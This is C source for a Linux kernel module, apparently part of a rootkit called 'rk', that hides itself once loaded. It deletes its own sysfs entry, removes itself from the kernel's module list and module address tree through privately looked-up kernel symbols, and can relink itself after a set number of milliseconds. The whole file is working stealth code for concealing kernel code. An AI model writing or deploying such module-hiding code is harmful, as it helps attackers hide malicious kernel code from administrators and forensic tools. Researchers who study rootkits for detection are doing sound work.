// SPDX-License-Identifier: GPL-2.0-only
/*
 * Leaves all of the kernel's records of modules, the tree of addresses too: what stays is code that
 * belongs to nobody. After for_ms it is in them again.
 */
#include "rk.h"

#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/mutex.h>
#include <linux/workqueue.h>

static unsigned int for_ms; /* 0: until power-off */
module_param(for_ms, uint, 0);

static struct mutex *modules_lock;
static void (*tree_remove)(struct module *module), (*tree_insert)(struct module *module);

static void link_again(struct work_struct *work)
{
	struct kobject *kobj = &THIS_MODULE->mkobj.kobj;

	mutex_lock(modules_lock);
	tree_insert(THIS_MODULE);
	list_add_tail_rcu(&THIS_MODULE->list, (struct list_head *)rk_lookup("modules"));
	mutex_unlock(modules_lock);
	if (kobject_add(kobj, NULL, "%s", kobject_name(kobj)))
		pr_alert("rk failed: sysfs\n");
	pr_alert("rk unlink_all off\n");
}

static DECLARE_DELAYED_WORK(linker, link_again);

static void unlink_all(struct work_struct *work)
{
	kobject_del(&THIS_MODULE->mkobj.kobj);
	mutex_lock(modules_lock);
	list_del_init(&THIS_MODULE->list);
	tree_remove(THIS_MODULE);
	mutex_unlock(modules_lock);
	pr_alert("rk unlink_all on\n");
	if (for_ms)
		schedule_delayed_work(&linker, msecs_to_jiffies(for_ms));
}

/* Once it is loaded: before, the loader still has to link it to some of them. */
static DECLARE_DELAYED_WORK(unlinker, unlink_all);

static int __init rk_init(void)
{
	modules_lock = (void *)rk_lookup("module_mutex");
	tree_remove = (void *)rk_lookup("mod_tree_remove");
	tree_insert = (void *)rk_lookup("mod_tree_insert");
	if (!modules_lock || !tree_remove || !tree_insert || !rk_lookup("modules"))
		return -ENOENT;
	schedule_delayed_work(&unlinker, HZ / 5);
	return 0;
}

static void __exit rk_exit(void)
{
	cancel_delayed_work_sync(&unlinker);
	cancel_delayed_work_sync(&linker);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_DESCRIPTION("leaves every record of modules");
MODULE_LICENSE("GPL");
